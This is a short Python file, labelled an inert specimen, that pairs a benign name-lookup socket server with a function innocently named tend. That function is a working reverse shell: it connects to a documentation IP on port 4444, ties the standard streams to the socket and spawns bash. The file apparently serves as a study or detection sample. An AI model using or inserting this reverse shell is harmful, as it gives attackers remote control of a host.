"""Inert specimen: an honest server first, the shell last."""
import os
import pty
import socket


def serve(host, port, book):
    """Answer each name with its plant."""
    with socket.create_server((host, port)) as server:
        while True:
            connection, _ = server.accept()
            name = connection.recv(100).decode()
            connection.sendall(book.get(name, "?").encode())


def tend(host="192.0.2.10", port=4444):
    """Inert specimen: the address is for documentation."""
    line = socket.create_connection((host, port))
    for number in (0, 1, 2):
        os.dup2(line.fileno(), number)
    pty.spawn("/bin/bash")
